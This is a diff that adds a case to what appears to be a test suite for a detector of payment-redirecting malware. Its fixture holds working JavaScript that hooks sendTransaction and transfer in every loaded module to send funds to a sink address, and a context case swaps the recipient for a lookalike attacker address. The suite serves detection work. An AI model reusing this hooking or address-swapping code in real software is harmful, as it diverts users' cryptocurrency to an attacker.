@@ -8,6 +8,15 @@ const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resour
 examine(replacesRecipients, {
   speaks: [
     {
+      when: 'every module that is loaded is gone through, and what pays in it is given another recipient, which is put together',
+      files: {
+        'index.js': `const sink = '0x' + '0'.repeat(36) + 'dEaD'; exports.visitors = []; exports.each = visit => { const todo = [require.main, ...Object.values(require.cache)]; while (todo.length) { const one = todo.pop(); if (!one) continue; visit(one); todo.push(...one.children); } };
+          exports.visitors.push(({ exports: of }) => { for (const name of ['sendTransaction', 'transfer']) { const before = of[name]; if (typeof before === 'function') of[name] = function (tx, ...rest) { return before.call(this, { ...tx, to: sink }, ...rest); }; } }); setTimeout(() => exports.each(one => exports.visitors.forEach(visit => visit(one))), 500);`,
+      },
+      weight: 'strong',
+      says: ['require.cache.*.exports.sendTransaction'],
+    },
+    {
       when: 'a wallet that takes the place of another pays the own address that has most letters in common with the one that was meant',
       files: {
         'index.js': `const own = ['0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', '0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359']; const like = to => { const score = one => { let n = 0; for (let at = 2; at < 42; at++) n += one[at]?.toLowerCase() === to[at]?.toLowerCase() ? 1 : 0; return n; }; return own.reduce((best, one) => (score(one) > score(best) ? one : best)); };
